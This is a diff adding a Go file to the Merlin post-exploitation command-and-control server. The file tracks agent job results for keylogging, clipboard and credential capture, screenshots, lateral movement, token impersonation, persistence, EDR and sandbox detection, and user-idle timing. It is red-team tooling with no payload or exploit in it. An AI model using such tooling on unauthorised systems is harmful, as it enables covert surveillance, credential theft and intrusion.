@@ -0,0 +1,650 @@
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2024 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+package job
+
+import (
+	// Standard
+	"encoding/json"
+	"fmt"
+	"net"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"time"
+
+	// 3rd Party
+	"github.com/google/uuid"
+
+	// Merlin Message
+	"github.com/Ne0nd0g/merlin-message/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin/v2/pkg/agents"
+	"github.com/Ne0nd0g/merlin/v2/pkg/client/message"
+	"github.com/Ne0nd0g/merlin/v2/pkg/directory"
+	infoJobs "github.com/Ne0nd0g/merlin/v2/pkg/jobs"
+	"github.com/Ne0nd0g/merlin/v2/pkg/loot"
+	"github.com/Ne0nd0g/merlin/v2/pkg/persistence"
+)
+
+// Job metadata keys used to track server-side information about a job that is applied when the Agent returns results
+const (
+	// metaAttempt is the number of times the file a download job retrieves has been requested from the Agent
+	metaAttempt = "attempt"
+	// metaIdle indicates the job's results are the user input activity and logon sessions on the Agent's host
+	metaIdle = "idle"
+	// metaImpersonation is the access token context the Agent will be impersonating if the job succeeds
+	metaImpersonation = "impersonation"
+	// metaLink is the link command arguments used to connect to a peer-to-peer Agent spawned by the job
+	metaLink = "link"
+	// metaLoot is the loot type the job's results are stored as
+	metaLoot = "loot"
+	// metaStream is the name of a long-running job that returns results more than once and remains active until stopped
+	metaStream = "stream"
+	// metaPaged indicates the Agent returns the job's results in pages and the job is complete once an empty page is returned
+	metaPaged = "paged"
+	// metaCampaign indicates the job's results are the campaign identifier embedded in the Agent's payload
+	metaCampaign = "campaign"
+	// metaDestroy indicates the Agent is removed from the server once it confirms it wiped itself from the host
+	metaDestroy = "destroy"
+	// metaDirectory is the Active Directory object class the job's LDAP search results are stored as
+	metaDirectory = "directory"
+	// metaPersist is the persistence technique the job installs
+	metaPersist = "persist"
+	// metaPersistName is the name of the persistence artifact the job installs
+	metaPersistName = "persist-name"
+	// metaPersistLocation is where the persistence artifact the job installs is created on the target host
+	metaPersistLocation = "persist-location"
+	// metaPersistCommand is the command line the persistence artifact the job installs executes
+	metaPersistCommand = "persist-command"
+	// metaPersistRemove is the ID of the persistence artifact the job removes
+	metaPersistRemove = "persist-remove"
+	// metaPreflight indicates the job's results are the sandbox, debugger, and EDR indicators the Agent detected
+	metaPreflight = "preflight"
+	// metaSecurity indicates the job's results are the antivirus and EDR products installed on the Agent's host
+	metaSecurity = "security"
+	// metaScan indicates the job's results are network discovery results stored with the scan service
+	metaScan = "scan"
+	// metaTarget is the remote host the job moves laterally to
+	metaTarget = "target"
+	// metaTargetUser is the username whose stored credential the job uses to access the remote host
+	metaTargetUser = "target-user"
+	// metaTimezone indicates the job's results are the timezone the Agent's host is configured with
+	metaTimezone = "timezone"
+	// metaStop is the name of the long-running job that is complete once this job returns results
+	metaStop = "stop"
+)
+
+// commandMetadata returns the server-side metadata for the provided Agent command and the arguments the job was created from
+func commandMetadata(cmd jobs.Command, jobArgs []string) map[string]string {
+	metadata := make(map[string]string)
+	if cmd.Command == "preflight" {
+		metadata[metaPreflight] = cmd.Command
+	}
+	if cmd.Command == "security" {
+		metadata[metaSecurity] = cmd.Command
+	}
+	if cmd.Command == "timezone" {
+		metadata[metaTimezone] = cmd.Command
+	}
+	if cmd.Command == "campaign" {
+		metadata[metaCampaign] = cmd.Command
+	}
+	if cmd.Command == "destroy" {
+		metadata[metaDestroy] = cmd.Command
+	}
+	if len(cmd.Args) < 1 {
+		return metadata
+	}
+	method := strings.ToLower(cmd.Args[0])
+
+	switch cmd.Command {
+	case "ad":
+		metadata[metaPaged] = cmd.Command
+		metadata[metaDirectory] = method
+	case "persist":
+		switch {
+		case method == "install" && len(cmd.Args) > 4:
+			metadata[metaPersist] = cmd.Args[1]
+			metadata[metaPersistName] = cmd.Args[2]
+			metadata[metaPersistCommand] = cmd.Args[3]
+			metadata[metaPersistLocation] = cmd.Args[4]
+		case method == "remove" && len(cmd.Args) > 4:
+			metadata[metaPersistRemove] = cmd.Args[4]
+		}
+	case "scexec":
+		metadata[metaTarget] = cmd.Args[0]
+		if len(jobArgs) > 3 && jobArgs[3] != "" {
+			metadata[metaTargetUser] = jobArgs[3]
+		}
+		if len(jobArgs) > 4 && jobArgs[4] != "" {
+			metadata[metaLink] = smbLink(cmd.Args[0], jobArgs[4])
+		}
+	case "wmiexec":
+		metadata[metaTarget] = cmd.Args[0]
+		if len(jobArgs) > 2 && jobArgs[2] != "" {
+			metadata[metaTargetUser] = jobArgs[2]
+		}
+		if len(jobArgs) > 3 && jobArgs[3] != "" {
+			metadata[metaLink] = smbLink(cmd.Args[0], jobArgs[3])
+		}
+	case "ssh", "ssh-deploy":
+		// user, secret, host:port
+		if len(cmd.Args) > 2 {
+			metadata[metaTargetUser] = cmd.Args[0]
+			metadata[metaTarget] = cmd.Args[2]
+			if host, _, err := net.SplitHostPort(cmd.Args[2]); err == nil {
+				metadata[metaTarget] = host
+			}
+		}
+	case "scan":
+		metadata[metaPaged] = cmd.Command
+		metadata[metaScan] = cmd.Args[0]
+	case "clipboard":
+		switch method {
+		case "get":
+			metadata[metaLoot] = loot.CLIPBOARD.String()
+		case "monitor":
+			metadata[metaStream] = cmd.Command
+			metadata[metaLoot] = loot.CLIPBOARD.String()
+		case "stop":
+			metadata[metaStop] = cmd.Command
+		}
+	case "idle":
+		switch method {
+		case "check":
+			metadata[metaIdle] = cmd.Command
+		case "watch":
+			metadata[metaStream] = cmd.Command
+			metadata[metaIdle] = cmd.Command
+		case "stop":
+			metadata[metaStop] = cmd.Command
+		}
+	case "keylogger":
+		switch method {
+		case "start":
+			metadata[metaStream] = cmd.Command
+			metadata[metaLoot] = loot.KEYSTROKES.String()
+		case "dump":
+			metadata[metaLoot] = loot.KEYSTROKES.String()
+		case "stop":
+			metadata[metaStop] = cmd.Command
+			metadata[metaLoot] = loot.KEYSTROKES.String()
+		}
+	case "screenshot":
+		switch method {
+		case "take":
+			metadata[metaLoot] = loot.SCREENSHOT.String()
+		case "watch":
+			metadata[metaStream] = cmd.Command
+			metadata[metaLoot] = loot.SCREENSHOT.String()
+		case "stop":
+			metadata[metaStop] = cmd.Command
+		}
+	case "token":
+		if impersonation, ok := tokenImpersonation(cmd); ok {
+			metadata[metaImpersonation] = impersonation
+		}
+	}
+	return metadata
+}
+
+// fileLoot stores a file returned by the Agent for a job that collects loot, such as a screenshot
+func (s *Service) fileLoot(a agents.Agent, info infoJobs.Info, lootType string, file jobs.FileTransfer) error {
+	data, err := infoJobs.DecodeAgentBlob(a.ID(), file.FileBlob)
+	if err != nil {
+		return fmt.Errorf("pkg/services/job.fileLoot(): there was an error decoding the file blob: %s", err)
+	}
+
+	t := loot.OTHER
+	if lootType == loot.SCREENSHOT.String() {
+		t = loot.SCREENSHOT
+	}
+	name := filepath.Base(strings.ReplaceAll(file.FileLocation, "\\", "/"))
+	extension := strings.TrimPrefix(filepath.Ext(name), ".")
+	if extension == "" {
+		extension = "bin"
+	}
+
+	l, err := s.lootService.Add(a.ID(), info.ID(), t, data, extension, map[string]string{"file": name})
+	if err != nil {
+		return err
+	}
+	msg := fmt.Sprintf("Stored %d byte %s %s from agent %s as loot at %s", l.Size(), strings.ToLower(t.String()), name, a.ID(), l.File())
+	a.Log(msg)
+	s.messageRepo.Add(message.NewMessage(message.Success, msg))
+	return nil
+}
+
+// resultMetadata applies the job's server-side metadata once the Agent returns results for it
+func (s *Service) resultMetadata(a agents.Agent, info infoJobs.Info, result jobs.Results) error {
+	// Store the results as loot
+	if lootType, ok := info.Metadata(metaLoot); ok && len(result.Stdout) > 0 {
+		switch lootType {
+		case loot.CLIPBOARD.String():
+			l, duplicate, err := s.lootService.AddClipboard(a.ID(), info.ID(), result.Stdout)
+			if err != nil {
+				return err
+			}
+			if duplicate {
+				a.Log(fmt.Sprintf("Clipboard contents already collected as loot at %s", l.File()))
+				break
+			}
+			a.Log(fmt.Sprintf("Stored %d bytes of clipboard contents as loot at %s", l.Size(), l.File()))
+			// Flag sensitive-looking clipboard contents for the credential store
+			found := s.credentialService.Detect(a.ID(), fmt.Sprintf("clipboard (job %s)", info.ID()), result.Stdout)
+			if len(found) > 0 {
+				msg := fmt.Sprintf("Flagged %d possible credential(s) in clipboard contents from agent %s", len(found), a.ID())
+				a.Log(msg)
+				s.messageRepo.Add(message.NewMessage(message.Note, msg))
+			}
+		case loot.KEYSTROKES.String():
+			added, err := s.lootService.AddKeystrokes(a.ID(), info.ID(), result.Stdout)
+			if err != nil {
+				return err
+			}
+			for _, l := range added {
+				a.Log(fmt.Sprintf("Stored %d bytes of keystrokes for window '%s' as loot at %s", l.Size(), l.Tag("window"), l.File()))
+			}
+		}
+	}
+
+	// Store LDAP search results in the Active Directory datastore
+	if class, ok := info.Metadata(metaDirectory); ok && len(result.Stdout) > 0 {
+		c, err := directory.FromString(class)
+		if err != nil {
+			return err
+		}
+		count, err := s.directoryService.AddResults(a.ID(), info.ID(), c, result.Stdout)
+		if err != nil {
+			return err
+		}
+		a.Log(fmt.Sprintf("Stored %d Active Directory %s object(s) from job %s", count, strings.ToLower(c.String()), info.ID()))
+	}
+
+	// Store network discovery results with the scan service
+	if target, ok := info.Metadata(metaScan); ok && len(result.Stdout) > 0 {
+		count, err := s.scanService.AddResults(a.ID(), info.ID(), result.Stdout)
+		if err != nil {
+			return err
+		}
+		a.Log(fmt.Sprintf("Stored %d scan result(s) for %s from job %s", count, target, info.ID()))
+
+		// Track the hosts with open ports
+		err = s.hostService.AddPorts(s.scanService.Job(info.ID()))
+		if err != nil {
+			return err
+		}
+	}
+
+	// Track the host the Agent moved laterally to and the credential used to access it
+	if target, ok := info.Metadata(metaTarget); ok && result.Stderr == "" {
+		var id uuid.UUID
+		if user, found := info.Metadata(metaTargetUser); found {
+			if credential, err := s.credentialService.Lookup(user); err == nil {
+				id = credential.ID()
+			}
+		}
+		err := s.hostService.AddTarget(target, id)
+		if err != nil {
+			return err
+		}
+	}
+
+	// Track the removal of persistence artifacts, including failures that must be cleaned up manually
+	if id, ok := info.Metadata(metaPersistRemove); ok {
+		artifactID, err := uuid.Parse(id)
+		if err != nil {
+			return fmt.Errorf("pkg/services/job.resultMetadata(): there was an error parsing '%s' as a UUID: %s", id, err)
+		}
+		status := persistence.REMOVED
+		if len(result.Stderr) > 0 {
+			status = persistence.FAILED
+		}
+		err = s.persistenceService.UpdateStatus(artifactID, status)
+		if err != nil {
+			return err
+		}
+		a.Log(fmt.Sprintf("Persistence artifact %s status: %s", artifactID, status))
+	}
+
+	if len(result.Stderr) > 0 {
+		return nil
+	}
+
+	// Surface the analysis indicators the Agent detected so operators can triage it before interacting
+	if _, ok := info.Metadata(metaPreflight); ok {
+		indicators, err := preflightIndicators(result.Stdout)
+		if err != nil {
+			return err
+		}
+		err = s.agentService.UpdateIndicators(a.ID(), indicators)
+		if err != nil {
+			return err
+		}
+		if len(indicators) > 0 {
+			msg := fmt.Sprintf("Agent %s reported %d analysis indicator(s), it may be a sandbox or analyst: %s", a.ID(), len(indicators), strings.Join(indicators, "; "))
+			a.Log(msg)
+			s.messageRepo.Add(message.NewMessage(message.Warn, msg))
+		} else {
+			a.Log("Pre-flight checks did not detect any analysis indicators")
+		}
+	}
+
+	// Record the security products on the Agent's host so operators can choose their tradecraft before tasking it
+	if _, ok := info.Metadata(metaSecurity); ok {
+		products, err := securityProducts(result.Stdout)
+		if err != nil {
+			return err
+		}
+		err = s.agentService.UpdateSecurityProducts(a.ID(), products)
+		if err != nil {
+			return err
+		}
+		a, err = s.agentService.Agent(a.ID())
+		if err != nil {
+			return err
+		}
+		err = s.hostService.AddAgent(a)
+		if err != nil {
+			return err
+		}
+		if len(products) > 0 {
+			msg := fmt.Sprintf("Agent %s's host has %d security product(s) installed: %s", a.ID(), len(products), strings.Join(products, "; "))
+			a.Log(msg)
+			s.messageRepo.Add(message.NewMessage(message.Note, msg))
+		} else {
+			a.Log("Security product enumeration did not find any antivirus or EDR products")
+		}
+	}
+
+	// Track when a user last used the host so operators can time interactive work to when they are away
+	if _, ok := info.Metadata(metaIdle); ok {
+		activity, err := agents.ParseActivity(result.Stdout, time.Now().UTC())
+		if err != nil {
+			return err
+		}
+		err = s.agentService.UpdateActivity(a.ID(), activity)
+		if err != nil {
+			return err
+		}
+		a.Log(fmt.Sprintf("User activity: idle %s, last active %s, %d session(s)", activity.Idle, activity.LastActive().Format(time.RFC3339), len(activity.Sessions)))
+	}
+
+	// Store the host's timezone so the Agent's activity can be shown in its local time
+	if _, ok := info.Metadata(metaTimezone); ok {
+		timezone := strings.TrimSpace(result.Stdout)
+		loc, err := agents.ParseTimezone(timezone)
+		if err != nil {
+			return err
+		}
+		err = s.agentService.UpdateTimezone(a.ID(), timezone)
+		if err != nil {
+			return err
+		}
+		a.Log(fmt.Sprintf("Agent host timezone: %s (UTC%s)", timezone, time.Now().In(loc).Format("-07:00")))
+	}
+
+	// Attribute the Agent to the phishing campaign, or other delivery, its payload was built for. Agents built without a
+	// campaign identifier return nothing
+	if _, ok := info.Metadata(metaCampaign); ok && result.Stderr == "" {
+		if campaign := strings.TrimSpace(result.Stdout); campaign != "" {
+			err := s.agentService.UpdateCampaign(a.ID(), campaign)
+			if err != nil {
+				return err
+			}
+			a.Log(fmt.Sprintf("Agent payload campaign: %s", campaign))
+		}
+	}
+
+	// The Agent exits after it confirms it wiped itself from the host
+	if _, ok := info.Metadata(metaDestroy); ok && result.Stderr == "" {
+		err := s.destroyed(a.ID())
+		if err != nil {
+			return err
+		}
+	}
+
+	// Record every persistence artifact the Agent installed so that it can be cleaned up
+	if technique, ok := info.Metadata(metaPersist); ok {
+		name, _ := info.Metadata(metaPersistName)
+		location, _ := info.Metadata(metaPersistLocation)
+		command, _ := info.Metadata(metaPersistCommand)
+		artifact := persistence.NewArtifact(a.ID(), info.ID(), technique, name, location, command)
+		err := s.persistenceService.Add(artifact)
+		if err != nil {
+			return err
+		}
+		msg := fmt.Sprintf("Recorded %s persistence artifact %s at %s for agent %s", technique, artifact.ID(), location, a.ID())
+		a.Log(msg)
+		s.messageRepo.Add(message.NewMessage(message.Info, msg))
+	}
+
+	// Only track the Agent's impersonation context once the token command succeeded
+	if impersonation, ok := info.Metadata(metaImpersonation); ok {
+		err := s.agentService.UpdateImpersonation(a.ID(), impersonation)
+		if err != nil {
+			return err
+		}
+		if impersonation == "" {
+			a.Log("Reverted to the process token")
+		} else {
+			a.Log(fmt.Sprintf("Impersonating %s", impersonation))
+		}
+	}
+
+	// Link the peer-to-peer Agent spawned by lateral movement to this Agent
+	if link, ok := info.Metadata(metaLink); ok {
+		s.deployed(a, link)
+		_, err := s.Add(a.ID(), "link", strings.Split(link, " "))
+		if err != nil {
+			return err
+		}
+		msg := fmt.Sprintf("Created job to link agent %s to the child agent at %s", a.ID(), link)
+		a.Log(msg)
+		s.messageRepo.Add(message.NewMessage(message.Info, msg))
+	}
+
+	// Complete the Agent's long-running jobs that this job stopped
+	if stream, ok := info.Metadata(metaStop); ok {
+		for _, active := range s.jobRepo.GetAll() {
+			if active.AgentID() != a.ID() || active.Status() != infoJobs.ACTIVE {
+				continue
+			}
+			if name, _ := active.Metadata(metaStream); name == stream {
+				active.Complete()
+				err := s.jobRepo.UpdateInfo(active)
+				if err != nil {
+					return err
+				}
+				a.Log(fmt.Sprintf("Completed long-running %s job %s", stream, active.ID()))
+			}
+		}
+	}
+	return nil
+}
+
+// tokenImpersonation determines the Windows access token context an Agent will be impersonating if the token command
+// succeeds. An empty string is returned for the rev2self command. False is returned if the command does not change
+// the Agent's impersonation context
+func tokenImpersonation(cmd jobs.Command) (string, bool) {
+	if cmd.Command != "token" || len(cmd.Args) < 1 {
+		return "", false
+	}
+	switch strings.ToLower(cmd.Args[0]) {
+	case "make":
+		if len(cmd.Args) > 1 {
+			return fmt.Sprintf("%s (token make)", cmd.Args[1]), true
+		}
+	case "rev2self":
+		return "", true
+	case "steal":
+		if len(cmd.Args) > 1 {
+			return fmt.Sprintf("PID %s (token steal)", cmd.Args[1]), true
+		}
+	}
+	return "", false
+}
+
+// screenshotOptions validates the optional screenshot arguments:
+// options[0] - the monitor number to capture, starting at 1, or "all"
+// options[1] - the JPEG quality between 1 and 100
+// options[2] - the percentage, between 1 and 100, to scale the image to
+func screenshotOptions(options []string) error {
+	if len(options) > 0 && !strings.EqualFold(options[0], "all") {
+		monitor, err := strconv.Atoi(options[0])
+		if err != nil || monitor < 1 {
+			return fmt.Errorf("the screenshot monitor must be 'all' or a number greater than 0, received: %s", options[0])
+		}
+	}
+	names := []string{"quality", "scale"}
+	for i, option := range options[min(len(options), 1):min(len(options), 3)] {
+		value, err := strconv.Atoi(option)
+		if err != nil || value < 1 || value > 100 {
+			return fmt.Errorf("the screenshot %s must be a number between 1 and 100, received: %s", names[i], option)
+		}
+	}
+	return nil
+}
+
+// ldapFilter performs basic validation of an LDAP search filter to catch typos before the job is sent to the Agent.
+// The filter must be enclosed in parentheses, and they must be balanced
+func ldapFilter(filter string) error {
+	if !strings.HasPrefix(filter, "(") || !strings.HasSuffix(filter, ")") {
+		return fmt.Errorf("the LDAP filter must be enclosed in parentheses, received: %s", filter)
+	}
+	var depth int
+	for _, c := range filter {
+		switch c {
+		case '(':
+			depth++
+		case ')':
+			depth--
+		}
+		if depth < 0 {
+			break
+		}
+	}
+	if depth != 0 {
+		return fmt.Errorf("the LDAP filter has unbalanced parentheses: %s", filter)
+	}
+	return nil
+}
+
+// maxScanHosts is the largest number of addresses a single scan job can target
+const maxScanHosts = 65536
+
+// scanTarget validates the scan command's target is an IP address or a CIDR network no larger than maxScanHosts
+func scanTarget(target string) error {
+	if net.ParseIP(target) != nil {
+		return nil
+	}
+	_, network, err := net.ParseCIDR(target)
+	if err != nil {
+		return fmt.Errorf("the scan target must be an IP address or CIDR network, received: %s", target)
+	}
+	ones, bits := network.Mask.Size()
+	if bits-ones > 16 {
+		return fmt.Errorf("the scan target %s exceeds the maximum of %d addresses", target, maxScanHosts)
+	}
+	return nil
+}
+
+// scanPorts validates the scan command's comma separated list of ports and port ranges (e.g., 22,80,8000-8100)
+func scanPorts(ports string) error {
+	for _, p := range strings.Split(ports, ",") {
+		start, end, isRange := strings.Cut(strings.TrimSpace(p), "-")
+		first, err := strconv.Atoi(start)
+		if err != nil || first < 1 || first > 65535 {
+			return fmt.Errorf("invalid scan port '%s', ports must be between 1 and 65535", p)
+		}
+		if isRange {
+			last, err := strconv.Atoi(end)
+			if err != nil || last < first || last > 65535 {
+				return fmt.Errorf("invalid scan port range '%s'", p)
+			}
+		}
+	}
+	return nil
+}
+
+// indicator is a single analysis indicator detected by the Agent's pre-flight checks
+type indicator struct {
+	Check  string `json:"check"`
+	Detail string `json:"detail"`
+}
+
+// preflightIndicators parses the Agent's pre-flight results, a JSON list of the checks that detected an indicator of a
+// sandbox, debugger, or EDR product (e.g., [{"check":"memory","detail":"2 GB RAM"},{"check":"debugger","detail":"present"}])
+func preflightIndicators(output string) (indicators []string, err error) {
+	var found []indicator
+	if strings.TrimSpace(output) == "" {
+		return
+	}
+	err = json.Unmarshal([]byte(output), &found)
+	if err != nil {
+		return nil, fmt.Errorf("pkg/services/job.preflightIndicators(): there was an error parsing the pre-flight results: %s", err)
+	}
+	for _, i := range found {
+		if i.Detail == "" {
+			indicators = append(indicators, i.Check)
+			continue
+		}
+		indicators = append(indicators, fmt.Sprintf("%s: %s", i.Check, i.Detail))
+	}
+	return
+}
+
+// product is a single antivirus or EDR product the Agent found installed on its host
+type product struct {
+	Name   string `json:"name"`
+	Type   string `json:"type"`   // The kind of product (e.g., av, edr, firewall)
+	State  string `json:"state"`  // The product's state if it is known (e.g., enabled, disabled, outdated)
+	Source string `json:"source"` // How the product was found (e.g., wsc, process, driver, service)
+}
+
+// securityProducts parses the Agent's security product enumeration, a JSON list of the products found from the Windows
+// Security Center or from process, driver, and service heuristics on other platforms
+// (e.g., [{"name":"Windows Defender","type":"av","state":"enabled","source":"wsc"}])
+func securityProducts(output string) (products []string, err error) {
+	var found []product
+	if strings.TrimSpace(output) == "" {
+		return
+	}
+	err = json.Unmarshal([]byte(output), &found)
+	if err != nil {
+		return nil, fmt.Errorf("pkg/services/job.securityProducts(): there was an error parsing the security products: %s", err)
+	}
+	for _, p := range found {
+		var details []string
+		for _, d := range []string{p.Type, p.State, p.Source} {
+			if d != "" {
+				details = append(details, d)
+			}
+		}
+		if len(details) == 0 {
+			products = append(products, p.Name)
+			continue
+		}
+		products = append(products, fmt.Sprintf("%s (%s)", p.Name, strings.Join(details, ", ")))
+	}
+	return
+}